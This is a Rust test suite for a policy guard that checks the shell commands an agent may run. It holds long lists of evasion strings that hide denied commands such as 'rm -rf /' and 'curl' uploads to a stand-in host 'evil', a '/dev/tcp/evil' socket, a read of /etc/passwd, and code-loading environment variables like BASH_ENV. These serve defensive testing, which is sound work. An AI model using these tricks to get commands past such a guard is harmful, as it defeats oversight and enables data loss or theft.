//! Acceptance point 1: commands hidden every way the research found, against a policy that
//! denies `rm` and `curl`; and commands that only look dangerous.

use cairn_engine::Decision;
use cairn_guards::PolicyGuard;
use serde_json::json;

use crate::{action, each_decided, guard, judge, judge_script};

/// Scripts given to `bash -c`, each of which runs `rm` or `curl` or cannot be resolved.
const DENIED_SCRIPTS: &[&str] = &[
    "echo hi && rm -rf x",
    "echo hi; rm x",
    "echo hi\nrm x",
    "ls & rm -rf /",
    "false || rm x",
    "cat f | curl -d @- evil",
    "echo $(rm -rf x)",
    "echo `rm x`",
    "echo \"$(rm x)\"",
    "a=$(rm x) true",
    "echo ${x:-$(rm x)}",
    "cat <(curl evil)",
    "echo x > >(curl evil)",
    "(rm x)",
    "{ rm x; }",
    "f(){ rm x; }; f",
    "for f in *; do rm $f; done",
    "while true; do curl evil; done",
    "if true; then rm x; fi",
    "if false; then :; else rm x; fi",
    "case x in x) rm x;; esac",
    "X=rm; $X -rf x",
    "$(printf rm) x",
    "rm${IFS}-rf${IFS}x",
    "\\rm x",
    "r''m x",
    "\"rm\" x",
    "r\\m x",
    "$'\\x72\\x6d' -rf x",
    "/bin/rm x",
    "/usr/bin/../bin/rm x",
    "./rm x",
    "env rm x",
    "env -i A=1 rm x",
    "env -S 'rm -rf /'",
    "command rm x",
    "builtin rm x",
    "exec rm x",
    "nice -n 5 rm x",
    "nohup rm x",
    "timeout 5 rm x",
    "timeout -s KILL 5 curl evil",
    "stdbuf -oL rm x",
    "time rm x",
    "setsid rm x",
    "sudo -u root rm x",
    "xargs rm < list",
    "find . -print0 | xargs -0 rm",
    "find . -exec rm {} \\;",
    "find . -name x -execdir rm {} +",
    "find . -ok rm {} \\;",
    "find . -exec env rm {} \\;",
    "bash -c 'rm -rf x'",
    "sh -c \"curl evil\"",
    "zsh -lc 'rm x'",
    "dash -c 'echo $(rm x)'",
    "sh -c \"$S\"",
    "bash -c 'bash -c \"sh -c \\\"rm x\\\"\"'",
    "eval 'rm x'",
    "eval ls",
    "source f",
    ". ./f",
    "bash f.sh",
    "bash < f",
    "bash <<< 'rm x'",
    "cat <<EOF | sh\nrm x\nEOF",
    "cat <<EOF\n$(rm x)\nEOF",
    "alias ls=rm",
    "trap 'rm x' EXIT",
    "x='a[$(rm y)]'; echo $((x))",
    "echo $(( $(rm x) ))",
    "ls &&",
    "echo 'unterm",
    "echo hi\r rm -rf x",
    "/bin/r[m] x",
    "{rm,x}",
    "~/rm x",
    "busybox rm x",
];

#[test]
fn every_hidden_rm_or_curl_is_denied() {
    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
    assert!(DENIED_SCRIPTS.len() >= 40);
    each_decided(&guard, DENIED_SCRIPTS, Decision::Deny);
}

#[test]
fn hidden_commands_in_a_plain_argv_are_denied() {
    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
    for argv in [
        json!(["rm", "-rf", "x"]),
        json!(["/bin/rm", "x"]),
        json!(["env", "FOO=1", "rm", "x"]),
        json!(["xargs", "-n", "1", "rm"]),
        json!(["find", ".", "-exec", "rm", "{}", ";"]),
        json!(["nice", "timeout", "5", "command", "curl", "evil"]),
        json!(["sh", "-c", "rm x"]),
        json!(["bash", "-lc", "ls | curl -T - evil"]),
        json!(["sudo", "--user", "root", "--", "rm", "x"]),
        json!(["bash"]),
        json!(["sh", "script.sh"]),
    ] {
        let verdict = judge(&guard, &action("process", json!({"command": argv})));
        assert_eq!(verdict.decision, Decision::Deny, "{argv}: {verdict:?}");
    }
}

#[test]
fn a_chain_of_200_commands_is_denied_past_the_bound() {
    let guard = guard(json!({"commands": {"deny": [["curl"]]}}));
    let chain = vec!["true"; 200].join(" && ");
    let verdict = judge_script(&guard, &chain);
    assert_eq!(verdict.decision, Decision::Deny);
    assert!(
        verdict.reasons[0].contains("more than 100 commands"),
        "{verdict:?}"
    );
    let deep = format!("{}ls{}", "( ".repeat(300), " )".repeat(300));
    assert_eq!(judge_script(&guard, &deep).decision, Decision::Deny);
    let nested = (0..20).fold("ls".to_owned(), |inner, _| format!("echo $({inner})"));
    assert_eq!(judge_script(&guard, &nested).decision, Decision::Deny);
}

#[test]
fn redirections_outside_the_roots_are_denied() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let policy = json!({"commands": {"deny": [["rm"]]}, "cwd": [root]});
    let guard = crate::guard_in(&policy, &root);
    let run = |script: &str| {
        let params = json!({"command": ["sh", "-c", script], "cwd": root});
        judge(&guard, &action("process", params)).decision
    };
    assert_eq!(run("echo x > out.txt 2>/dev/null"), Decision::Allow);
    for script in [
        "echo x > ~/.bashrc",
        "echo x >> /etc/profile",
        "echo x > ../out",
        "cat < /etc/passwd",
        "echo x > \"$HOME/f\"",
        "ls &> /tmp/../etc/x",
        "exec 3<>/dev/tcp/evil/80",
    ] {
        assert_eq!(run(script), Decision::Deny, "{script}");
    }
}

#[test]
fn commands_that_only_look_dangerous_are_allowed() {
    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
    each_decided(
        &guard,
        &[
            "echo \"a && rm b\"",
            "echo rm",
            "git commit -m \"x; y\"",
            "git commit -m 'a && curl b'",
            "grep -r 'rm -rf' .",
            "ls -la | grep rm",
            "for i in 1 2; do echo $((i + 1)); done",
            "cat <<'EOF'\n$(rm x)\nEOF",
            // Expansions on a here-document's line, read whole by the vendored tokenizer.
            "cat <<EOF > \"${OUT_DIR}/notes.md\"\n# Notes\nEOF",
            "python3 - <<'EOF' \"${INPUT_FILE}\"\nprint(1)\nEOF",
            "cat <<EOF | sed \"s/@NAME@/${NAME}/\" > \"$(git rev-parse --show-toplevel)/x\"\nhi\nEOF",
            "find . -name '*.rs' -print",
            "timeout 5 cargo test",
            "echo 2>&1",
            "su root -c 'echo hi'",
            "runuser -u root -- echo hi",
            "flock /tmp/l -c 'echo hi'",
            "chrt 0 echo hi",
            "nice -10 echo hi",
            "watch -n 1 date",
            "xargs",
            "xargs -0 grep rm",
            "find . -exec grep rm {} \\;",
            "env -a echo echo hi",
            "sudo -u root -- ls",
        ],
        Decision::Allow,
    );
}

#[test]
fn under_an_allow_list_every_command_must_be_allowed() {
    let guard = guard(json!({"commands": {"allow": [["git"], ["cargo", "test"], ["bash"]]}}));
    let allowed = judge_script(&guard, "git status && cargo test -p x");
    assert_eq!(allowed.decision, Decision::Allow, "{allowed:?}");
    assert!(allowed.rules.iter().all(|rule| rule == "commands.allow"));
    let denied = judge_script(&guard, "git status && cargo build");
    assert_eq!(denied.decision, Decision::Deny);
    assert_eq!(denied.reasons, ["`cargo build` matches no allowed command"]);
    // A word known only at run time never proves an allow.
    assert_eq!(judge_script(&guard, "cargo $T").decision, Decision::Deny);
    // bash's keyword `time` is no command; dash runs the program `time`, a wrapper that must
    // be allowed too (probe 116 F2).
    assert_eq!(
        judge_script(&guard, "time git status").decision,
        Decision::Allow
    );
    let params = json!({"command": ["bash", "-c", "sh -c 'time git status'"]});
    let dash = judge(&guard, &action("process", params));
    assert_eq!(dash.decision, Decision::Deny, "{dash:?}");
    let told = "`time git status` matches no allowed command".to_owned();
    assert!(dash.reasons.contains(&told), "{dash:?}");
}

#[test]
fn a_program_named_by_a_path_matches_only_an_allow_naming_that_path() {
    // The file may be any program, one the script itself wrote (probe 68 F1: `git apply`
    // made `./ls`); a deny still matches it by its name.
    let guard = guard(json!({"commands": {"allow": [["ls"], ["./build.sh"], ["bash"]]}}));
    let allowed = judge_script(&guard, "ls && ./build.sh");
    assert_eq!(allowed.decision, Decision::Allow, "{allowed:?}");
    for script in ["./ls", "/usr/bin/ls", "bin/ls -l", "/tmp/build.sh"] {
        let denied = judge_script(&guard, script);
        assert_eq!(denied.decision, Decision::Deny, "{script}: {denied:?}");
    }
}

#[test]
fn agents_are_judged_by_their_cli_program() {
    let guard = guard(json!({"commands": {"allow": [["claude"]]}}));
    let claude = action("agent", json!({"cli": "claude", "prompt": "rm -rf /"}));
    assert_eq!(judge(&guard, &claude).decision, Decision::Allow);
    let other = action(
        "agent",
        json!({"cli": "claude", "prompt": "x", "program": "/tmp/evil"}),
    );
    assert_eq!(judge(&guard, &other).decision, Decision::Deny);
    let custom =
        json!({"cli": "custom", "prompt": "x", "command": ["sh", "-c", "claude {prompt}; curl e"]});
    assert_eq!(
        judge(&guard, &action("agent", custom)).decision,
        Decision::Deny
    );
}

#[test]
fn the_test_command_bracket_is_a_literal_word() {
    let guard = guard(json!({"commands": {"deny": [["rm"]]}}));
    let allowed = [
        "[ -f x ] && echo y",
        "if [ 1 = 1 ]; then echo y; fi",
        "[ \"$a\" = b ] || echo y",
        "while [ -e x ]; do sleep 1; done",
    ];
    each_decided(&guard, &allowed, Decision::Allow);
    let denied = [
        "[ -f x ] && rm y",
        "if [ 1 = 1 ]; then rm y; fi",
        "/bin/r[m] y",
        "[m] y",
        "r[\"m]\" y",
    ];
    each_decided(&guard, &denied, Decision::Deny);
}

#[test]
fn sh_scripts_are_refused_where_dash_and_bash_disagree() {
    let guard = guard(json!({"commands": {"deny": [["rm"]]}}));
    let run = |shell: &str, script: &str| {
        let params = json!({"command": [shell, "-c", script]});
        judge(&guard, &action("process", params)).decision
    };
    for script in [
        "((rm x))",
        "echo $'\\'; rm x; #'",
        "[[ a || rm x ]]",
        "echo \"${x:-'}\"; rm x; #'}\"",
        "false && echo $(( ')) ; rm x #' ))",
        "echo hi &>/dev/null rm x",
        "echo hi &>>/dev/null rm x",
        // dash runs the program `time`, which reads a quoted option as one (probe 116 F1).
        "time '-p' rm x",
        "time \"-o\" /dev/null rm x",
        // dash reads `{x}` and `12` as words, not descriptors (probe 117 F1, F4).
        "env -u {x}>/dev/null rm x",
        "env -u 12>/dev/null rm x",
        // dash gives these here-documents no body and runs the line after them (117 F3,
        // 118 F1, F2).
        "ls $(ls <<true)\nrm x\ntrue",
        "echo $(\ncat <<true)\nrm x\ntrue",
        "echo '$((' $(cat <<true) '))'\nrm x\ntrue",
        // Its body read by the tokenizer into a later `$(…)` (probe 120 F1).
        "echo $(true <<EOF) $(true\nrm x\nEOF\n)",
        // A document's `$(…)` that dash reads on past its end (probe 122 F1, 123 F1).
        "cat <<E\n$(echo '\nE\n: ' ; rm x )\nE\n: ' #'",
        "cat <<E\n$(echo } '\nE\n: ' ; rm x )\nE\n: ' #'",
        "cat <<E\n$(rm x $'\\' )\nE",
        // bash's assignments that dash reads as a command's name (123 F2).
        "a+=/../../bin/rm x",
        "a[0]=/../../bin/rm x",
    ] {
        assert_eq!(run("sh", script), Decision::Deny, "sh -c {script:?}");
        assert_eq!(run("dash", script), Decision::Deny, "dash -c {script:?}");
    }
    // The same syntax, for bash.
    assert_eq!(
        run("bash", "((x = 1)); [[ -n $x ]] && echo $'a'"),
        Decision::Allow
    );
    for script in [
        "exec {fd}>/dev/null; echo hi 12>/dev/null",
        "x=$(cat <<EOF)\nhi\nEOF",
    ] {
        assert_eq!(run("bash", script), Decision::Allow, "bash -c {script:?}");
    }
    // A `<<` that is text, and a document inside its `$(…)`, are no such thing (118 F3,
    // 122 F2), nor an expansion that closes on its line in a document.
    for script in [
        "printf '%s\\n' \"$(date +%Y)\" \"shift: (1 << 4)\"",
        "x=$(cat <<EOF\nhi\nEOF\n)",
        "x=$(\n\tcat <<-EOF\n\thi\n\tEOF\n)",
        "x=$(cat <<EOF # note\nhi\nEOF\n)",
        "cat <<EOF\nbuilt at $(date) by ${USER:-me}\nEOF",
    ] {
        assert_eq!(run("sh", script), Decision::Allow, "sh -c {script:?}");
    }
    // dash's `chdir` is its `cd` (probe 117 F2).
    let denies_cd = crate::guard(json!({"commands": {"deny": [["cd"]]}}));
    let params = json!({"command": ["sh", "-c", "chdir /tmp; echo x > f"]});
    let moved = judge(&denies_cd, &action("process", params));
    assert_eq!(moved.decision, Decision::Deny, "{moved:?}");
    // An agent's prompt is substituted into its `sh -c` script, then judged as sh.
    let custom = json!({"cli": "custom", "prompt": "$'\\'; rm x; #'",
                        "command": ["sh", "-c", "echo {prompt}"]});
    assert_eq!(
        judge(&guard, &action("agent", custom)).decision,
        Decision::Deny
    );
}

#[test]
fn a_typical_ci_script_is_allowed_under_a_deny_list() {
    let guard = guard(json!({"commands": {"deny": [["rm"], ["curl"]]}}));
    let script = "set -euo pipefail; for f in src/*.rs; do if [ -n \"$f\" ]; then echo \"$f\"; fi; done; while read -r line; do echo \"$line\"; done < Cargo.toml; case \"$CI\" in true) echo ci ;; *) echo local ;; esac";
    for shell in ["bash", "sh"] {
        let params = json!({"command": [shell, "-c", script]});
        let verdict = judge(&guard, &action("process", params));
        assert_eq!(verdict.decision, Decision::Allow, "{shell}: {verdict:?}");
    }
}

#[test]
fn parser_misreads_and_unrecorded_assignments_are_denied() {
    let guard = guard(json!({"commands": {"deny": [["rm"]]}}));
    each_decided(
        &guard,
        &[
            "cat <<EOF\nEO\\\nF\nrm x\nEOF\n",
            "cat <(true)#; rm x",
            "a=(b)#; rm x",
            "cat <(true)\\\n#; rm x",
            "HOME=(b)\\\n#; rm x",
            "echo \"${LANG@\\\nP}\"",
            "{X}>/dev/null rm x",
            "true {BASH_ENV}>/dev/null",
            "X=BASH_ENV; : ${!X:=/tmp/e.sh}",
            "LD_LIBRARY_PATH=/tmp ls",
            // Probe 130: a reprint that does not parse, or a harmless `case`, turned bash's
            // walk off, and the tokenizer had taken `rm x` out of the `$(…)`.
            "cat <<E; echo $(rm x); if true; then true; fi\nE\n",
            "cat <<E; echo $(rm x)\nE\necho $(case x in (x) echo b;; esac)\n",
            "cat <<X; echo a; if true; then true; fi\nX\ncat <<\\\n-E\nE\nrm x\n-E",
        ],
        Decision::Deny,
    );
    // Judged, not refused: the `rm` in an expansion on a here-document's line is found.
    let verdict = judge_script(&guard, "cat <<E > \"$(rm x)/y\"\nhi\nE");
    let rm = (verdict.reasons.iter()).any(|reason| reason.contains("`rm x` matches the denied"));
    assert!(rm, "{verdict:?}");
    let with_env = json!({"command": ["ls"], "env": {"LD_LIBRARY_PATH": "/tmp"}});
    let verdict = judge(&guard, &action("process", with_env));
    assert_eq!(verdict.decision, Decision::Deny, "{verdict:?}");
    let env_list = crate::guard(json!({"env": ["HOME"]}));
    let verdict = judge_script(&env_list, "true {PATH}>/dev/null; ls");
    assert_eq!(verdict.decision, Decision::Deny, "{verdict:?}");
    each_decided(
        &guard,
        &["echo ${arr[$((n-1))]} ${x:-$((1+1))}", "(( x = $((1+2)) ))"],
        Decision::Allow,
    );
}

#[test]
fn variables_that_make_glibc_bash_or_zsh_load_code_are_refused_in_with_env() {
    let guard =
        guard(json!({"default": "deny", "commands": {"allow": [["bash", "-c"], ["echo"]]}}));
    for name in [
        "GCONV_PATH",
        "SSH_CLIENT",
        "SSH2_CLIENT",
        "ZDOTDIR",
        "LD_BIND_NOW",
    ] {
        let env = json!({"command": ["bash", "-c", "echo hi"], "env": {name: "/tmp/x"}});
        let verdict = judge(&guard, &action("process", env));
        assert_eq!(verdict.decision, Decision::Deny, "{name}: {verdict:?}");
        assert_eq!(verdict.rules, ["env"], "{name}");
        let script = format!("{name}=/tmp/x bash -c 'echo hi'");
        assert_eq!(
            judge_script(&guard, &script).decision,
            Decision::Deny,
            "{script}"
        );
    }
    let env = json!({"command": ["bash", "-c", "echo hi"], "env": {"LANG": "C"}});
    assert_eq!(
        judge(&guard, &action("process", env)).decision,
        Decision::Allow
    );
}

/// Probe 40 F4, F7: yash runs `COMMAND_NOT_FOUND_HANDLER` when a command is not found and
/// `YASH_AFTER_CD` after a `cd`, its `PS4S`/`YASH_PS4` under `set -x`; ksh93, mksh and posh
/// source a file from `FPATH` for a command not found, and mksh and posh run a file without
/// `#!` with `EXECSHELL`. Each is refused as `BASH_ENV` is, in a script and in `with.env`,
/// under a policy with no `env` list too.
#[test]
fn yash_hooks_fpath_and_execshell_are_refused_in_scripts_and_with_env() {
    let allow_list = guard(json!({
        "default": "deny",
        "commands": {"allow": [["yash", "-c"], ["mksh", "-c"], ["cd"], ["tidy"], ["true"]]},
    }));
    let deny_list = guard(json!({"commands": {"deny": [["rm"]]}}));
    for name in [
        "COMMAND_NOT_FOUND_HANDLER",
        "YASH_AFTER_CD",
        "YASH_PS4",
        "YASH_PS4S",
        "PS4S",
        "YASH_LOADPATH",
        "FPATH",
        "EXECSHELL",
    ] {
        for guard in [&allow_list, &deny_list] {
            let env = json!({"command": ["yash", "-c", "cd ."], "env": {name: "rm -f v"}});
            let verdict = judge(guard, &action("process", env));
            assert_eq!(verdict.decision, Decision::Deny, "{name}: {verdict:?}");
            assert_eq!(verdict.rules, ["env"], "{name}");
            for shell in ["yash", "mksh"] {
                let script = format!("{name}='rm -f v'; cd .; tidy; true");
                let command = json!({"command": [shell, "-c", script]});
                let verdict = judge(guard, &action("process", command));
                assert_eq!(verdict.decision, Decision::Deny, "{script}: {verdict:?}");
                assert_eq!(verdict.rules, ["commands"], "{script}");
            }
        }
    }
    // ksh's and mksh's `set -A NAME VALUE` and yash's `array NAME VALUE` set NAME too
    // (probe 42 F7); other names and options stay allowed.
    let (deny, allow) = (Decision::Deny, Decision::Allow);
    for (script, decision) in [
        ("set -A FPATH /tmp/d; x", deny),
        ("set +A FPATH /tmp/d", deny),
        ("set -eA FPATH /tmp/d", deny),
        ("array COMMAND_NOT_FOUND_HANDLER 'rm -f v'; x", deny),
        ("array YASH_AFTER_CD 'rm -f v'; cd .", deny),
        ("set -euo pipefail; true", allow),
        ("set -A files a b; true", allow),
        ("set -- a b", allow),
        ("array files a b; true", allow),
    ] {
        let command = json!({"command": ["mksh", "-c", script]});
        let verdict = judge(&deny_list, &action("process", command));
        assert_eq!(verdict.decision, decision, "{script}: {verdict:?}");
    }
    let plain = json!({"command": ["yash", "-c", "cd ."], "env": {"LANG": "C"}});
    assert_eq!(
        judge(&deny_list, &action("process", plain)).decision,
        Decision::Allow
    );
}

/// The probe's allow-list: `echo` and wrappers allowed, `touch` denied, `HOME` the only
/// variable a step may set.
fn probe_allow_list() -> PolicyGuard {
    guard(json!({
        "default": "deny",
        "commands": {"allow": [["echo"], ["ls"], ["env"], ["sudo"], ["xargs"], ["bash", "-c"],
                               ["sh", "-c"]],
                     "deny": [["touch"]]},
        "env": ["HOME"],
    }))
}

#[test]
fn env_reads_a_word_holding_an_equals_sign_as_an_assignment() {
    let deny = guard(json!({"commands": {"deny": [["touch"]]}}));
    for guard in [&probe_allow_list(), &deny] {
        each_decided(
            guard,
            &[
                "env 1=/echo touch x",
                "env A-B=/ls touch x",
                "env 'BASH_FUNC_ls%%=() { touch x; } #/echo' bash -c ls",
                "env -S '1=/echo touch x'",
                "sudo 1=/echo touch x",
            ],
            Decision::Deny,
        );
        let argv = json!({"command": ["env", "1=/echo", "touch", "x"]});
        let verdict = judge(guard, &action("process", argv));
        assert_eq!(verdict.decision, Decision::Deny, "{verdict:?}");
    }
    each_decided(&probe_allow_list(), &["env HOME=/tmp ls"], Decision::Allow);
}

#[test]
fn a_variable_a_wrapper_option_sets_is_judged() {
    let deny = guard(json!({"commands": {"deny": [["touch"]]}}));
    for guard in [&probe_allow_list(), &deny] {
        each_decided(
            guard,
            &["echo a | xargs --process-slot-var=BASH_ENV bash -c 'echo child'"],
            Decision::Deny,
        );
    }
    each_decided(
        &probe_allow_list(),
        &["echo a | xargs --process-slot-var=SLOT echo"],
        Decision::Deny,
    );
    each_decided(
        &probe_allow_list(),
        &["echo a | xargs --process-slot-var=HOME echo"],
        Decision::Allow,
    );
}

#[test]
fn setting_the_command_and_alias_tables_is_denied() {
    let allow = guard(json!({"default": "deny", "commands": {"allow": [["ls"], ["shopt"]]}}));
    let deny = guard(json!({"commands": {"deny": [["touch"]]}}));
    for guard in [&allow, &deny] {
        each_decided(
            guard,
            &[
                "BASH_CMDS[ls]=/usr/bin/touch; ls x",
                "shopt -s expand_aliases; BASH_ALIASES[ls]='touch x; echo'\nls",
            ],
            Decision::Deny,
        );
    }
}

#[test]
fn export_and_declare_options_do_not_hide_an_assignment() {
    let builtins = guard(json!({
        "default": "deny",
        "commands": {"allow": [["echo"], ["ls"], ["export"], ["declare"], ["readonly"],
                                 ["bash", "-c"]]},
        "env": ["HOME", "LANG"],
    }));
    each_decided(
        &builtins,
        &[
            "declare +f PATH=/tmp/x; ls",
            "declare +F PATH=/tmp/x; ls",
            "export +p PATH=/tmp/x; ls",
            "export -p PATH=/tmp/x; ls",
            "readonly -p PATH=/tmp/x; ls",
        ],
        Decision::Deny,
    );
    each_decided(
        &builtins,
        &["export -p; declare -p HOME; export LANG=C"],
        Decision::Allow,
    );
}

#[test]
fn command_v_is_judged_as_printing() {
    let deny = guard(json!({"commands": {"deny": [["touch"]]}}));
    each_decided(
        &deny,
        &["command -v touch || echo missing", "command -V touch"],
        Decision::Allow,
    );
    each_decided(
        &deny,
        &["command touch x", "command -p touch x"],
        Decision::Deny,
    );
}

#[test]
fn turning_on_history_expansion_is_denied() {
    let deny = guard(json!({"commands": {"deny": [["touch"]]}}));
    each_decided(
        &deny,
        &["set -o history -H\necho /tmp/x\n^echo^touch"],
        Decision::Deny,
    );
    each_decided(&deny, &["set -euo pipefail; set -- a b"], Decision::Allow);
}

#[test]
fn shell_options_cannot_be_imported_from_the_step_env() {
    // bash imports SHELLOPTS and BASHOPTS at startup: `keyword` makes `bash -c true
    // BASH_ENV=f` source f.
    let guard = guard(json!({"commands": {"deny": [["touch"]]}}));
    for name in ["SHELLOPTS", "BASHOPTS"] {
        let params = json!({"command": ["bash", "-c", "bash -c true BASH_ENV=k"],
                            "env": {name: "keyword"}});
        let verdict = judge(&guard, &action("process", params));
        assert_eq!(verdict.decision, Decision::Deny, "{name}: {verdict:?}");
    }
    // POSIXLY_CORRECT starts bash in POSIX mode, where a `'` inside `"${x:-…}"` quotes
    // nothing: this script runs `touch x`.
    let params = json!({"command": ["bash", "-c", "echo \"${x:-'}\"; touch x #'}\""],
                        "env": {"POSIXLY_CORRECT": "1"}});
    let allows_it = crate::guard(json!({
        "default": "deny",
        "commands": {"allow": [["bash"], ["echo"]], "deny": [["touch"]]},
        "env": ["POSIXLY_CORRECT"],
    }));
    let verdict = judge(&allows_it, &action("process", params));
    assert_eq!(verdict.decision, Decision::Deny, "{verdict:?}");
    for guard in [&probe_allow_list(), &guard] {
        each_decided(
            guard,
            &[
                "bash -c -k 'bash -c true BASH_ENV=k'",
                "set -k; bash -c true BASH_ENV=k",
            ],
            Decision::Deny,
        );
    }
}
